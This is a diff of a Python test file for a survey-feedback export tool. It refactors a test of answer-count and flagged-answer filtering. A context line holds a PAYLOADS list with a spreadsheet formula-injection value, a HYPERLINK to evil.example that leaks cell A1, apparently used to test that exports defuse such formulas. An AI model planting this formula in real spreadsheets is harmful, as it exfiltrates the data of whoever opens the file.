@@ -5,8 +5,9 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from feedback import exports, planedit, responses, surveys
+from feedback import exports, planedit, surveys
 from feedback.stats import Filters
+from tests.conftest import answered
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Klikkaa")',
@@ -45,21 +46,9 @@ def test_decimals_are_written_with_a_comma_for_finnish_excel():
 def test_the_answers_export_holds_only_rounds_with_k_answers_and_no_flagged(plan_db):
     big = surveys.create(plan_db, action_id="mini:a1")
     small = surveys.create(plan_db, action_id="mini:a2")
-    for i in range(12):
-        responses.record(
-            plan_db,
-            big,
-            responses.Answer(scores=(4,)),
-            submission_id=responses.new_submission_id(),
-            flagged=i == 0,
-        )
-    for _ in range(3):
-        responses.record(
-            plan_db,
-            small,
-            responses.Answer(scores=(1,)),
-            submission_id=responses.new_submission_id(),
-        )
+    answered(plan_db, big, 4, flagged=True)
+    answered(plan_db, big, *[4] * 11)
+    answered(plan_db, small, 1, 1, 1)
     frame = exports.answers(plan_db, "mini", filters=Filters(), k=10)
     assert set(frame["round"]) == {big.code}
     assert frame["answers"].sum() == 11, "the flagged answer is left out"
